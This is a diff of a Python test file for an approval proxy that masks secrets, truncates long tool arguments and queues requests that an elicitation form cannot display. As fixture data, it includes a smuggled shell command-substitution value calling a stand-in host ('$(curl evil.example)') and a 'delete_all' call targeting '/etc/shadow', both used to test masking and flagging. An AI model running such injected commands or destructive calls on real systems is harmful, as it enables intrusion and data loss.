@@ -82,8 +82,67 @@ async def test_what_others_have_written_is_escaped_masked_and_cut() -> None:
     assert "hunter2" not in message
     assert "pw1234" not in message
     assert "\nAllowed by" not in message
-    assert "cut: " in message
+    assert "(7 characters hidden)" in message
+    assert "characters left out" in message
     assert len(message.encode()) < 3500
+
+
+async def test_a_long_value_is_cut_in_its_middle_and_no_name_and_no_other_value_is() -> None:
+    args = {"a": "first" + "x" * 5000 + "last", "b": [{"to": "/etc/shadow", "force": True}], "z": "y" * 5000}
+    async with approving() as on:
+        client = await on.join(can=CAN_ASK)
+        calling = begin(client, "delete_all", args)
+        message = (await answer(on, client, accept("once")))["message"]
+        await calling
+    for part in ('"a": "first', 'last"', '"to": "/etc/shadow"', '"force": true', '"z": "yyy', "characters left out"):
+        assert part in message
+
+
+MANY = {f"name{number}": number for number in range(300)}
+
+
+@pytest.mark.parametrize("args", [MANY, {"list": [*MANY]}, {"x" * 3000: 1}, {"n": int("1" * 3000)}])
+async def test_what_a_form_cannot_show_all_names_of_waits_in_the_queue(args: Json) -> None:
+    async with approving() as on:
+        client = await on.join(can=CAN_ASK)
+        calling = begin(client, "delete_all", args)
+        pending = await on.waits()
+        assert json.loads(bytes(pending.arguments)) == args
+        assert client.heard("elicitation/create") == []
+        on.box.allow(pending.id)
+        assert await calling == DONE
+        calling = begin(client)
+        await client.hears("elicitation/create")
+        calling.cancel()
+
+
+async def test_what_a_form_cannot_show_is_denied_where_there_is_no_queue() -> None:
+    upstream = FakeUpstream(ANSWERS)
+    async with approving(upstream, has_queue=False) as on:
+        client = await on.join(can=CAN_ASK)
+        refused = text_of(await client.call("up", "delete_all", MANY))
+    assert "a form cannot show so many arguments, and there is no queue" in refused
+    assert upstream.heard("tools/call") == []
+
+
+async def test_a_resource_whose_address_a_form_cannot_show_waits_in_the_queue() -> None:
+    async with approving() as on:
+        client = await on.join(can=CAN_ASK)
+        reading = asyncio.create_task(client.request("resources/read", {"uri": "x://" + "a" * 2000}))
+        assert (await on.waits()).kind == "resource"
+        assert client.heard("elicitation/create") == []
+        reading.cancel()
+
+
+async def test_of_what_is_hidden_the_length_is_shown_and_whether_it_looks_like_a_command() -> None:
+    args = {"env": {"API_TOKEN": "$(curl evil.example)", "SECRET": "a1b2c3d4e5"}}
+    async with approving() as on:
+        client = await on.join(can=CAN_ASK)
+        calling = begin(client, "delete_all", args)
+        message = (await answer(on, client, accept("once")))["message"]
+        await calling
+    assert '"API_TOKEN": "*** (20 characters hidden, with spaces or shell characters)"' in message
+    assert '"SECRET": "*** (10 characters hidden)"' in message
 
 
 async def test_a_name_that_hides_something_shows_it() -> None:
